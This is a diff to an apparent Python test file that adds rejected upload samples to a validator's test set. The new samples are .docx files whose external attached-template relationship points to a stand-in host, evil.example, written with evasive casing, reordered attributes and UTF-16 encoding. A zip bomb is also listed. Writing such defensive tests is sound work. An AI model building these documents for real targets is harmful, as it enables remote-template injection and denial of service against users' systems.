@@ -129,6 +129,26 @@ REFUSED: dict[str, tuple[str, bytes]] = {
             }
         ),
     ),
+    "a document with a template elsewhere, the words the other way round and a bracket between": (
+        "docx",
+        docx(
+            **{
+                "word/_rels/settings.xml.RELS": b"<Relationship TargetMode = 'External' Target='http://evil.example/>' "
+                b"Type='http://x/attachedTemplate'/>"
+            }
+        ),
+    ),
+    "a document with a template elsewhere in UTF-16": (
+        "docx",
+        docx(
+            **{
+                "word/_rels/settings.xml.rels": (
+                    '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/" '
+                    'TargetMode="External"/>'
+                ).encode("utf-16")
+            }
+        ),
+    ),
     "a zip bomb": ("docx", docx(**{"word/media/a": b"\x00" * 80_000_000})),
     "a damaged document": ("docx", docx()[:-30]),
     "nothing": ("txt", b"\x00"),
